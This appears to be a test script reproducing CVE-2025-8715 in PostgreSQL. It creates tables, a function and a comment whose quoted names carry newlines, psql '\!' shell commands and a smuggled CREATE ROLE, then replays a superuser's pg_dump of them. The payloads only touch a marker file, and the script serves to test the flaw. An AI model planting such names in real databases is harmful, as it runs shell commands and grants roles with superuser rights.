-- way: give objects names that end a comment or a statement in a dump or a generated script of the superuser
-- source: CVE-2025-8715
-- versions: 15-
-- control: a superuser's job that joins names without quotes
-- section: setup
CREATE SCHEMA ops;
CREATE FUNCTION ops.job(name text) RETURNS text LANGUAGE sql AS $$ SELECT format('COMMENT ON TABLE shop.%I IS NULL', name) $$;
-- section: application
CREATE TABLE shop."items IS NULL; CREATE ROLE climb_injected; --" (id int);
CREATE TABLE shop."a
\! touch /tmp/climb_injected
select" (id int);
CREATE FUNCTION shop."f
\! touch /tmp/climb_injected
" () RETURNS int LANGUAGE sql AS 'SELECT 1';
SELECT lo_create(4712);
COMMENT ON TABLE shop."items IS NULL; CREATE ROLE climb_injected; --" IS E'a\n\\! touch /tmp/climb_injected\n';
-- section: others
SELECT ops.job(relname) FROM pg_class WHERE relnamespace = 'shop'::regnamespace AND relkind = 'r' \gexec
\setenv PGDATABASE :DBNAME
\! pg_dump --username=postgres --schema-only --schema=shop "$PGDATABASE" > /tmp/dump.sql
\! PGOPTIONS='-c default_transaction_read_only=on' psql --username=postgres --quiet --file=/tmp/dump.sql postgres > /dev/null 2>&1
-- section: control
CREATE OR REPLACE FUNCTION ops.job(name text) RETURNS text LANGUAGE sql AS $$ SELECT 'COMMENT ON TABLE shop.' || name || ' IS NULL' $$;
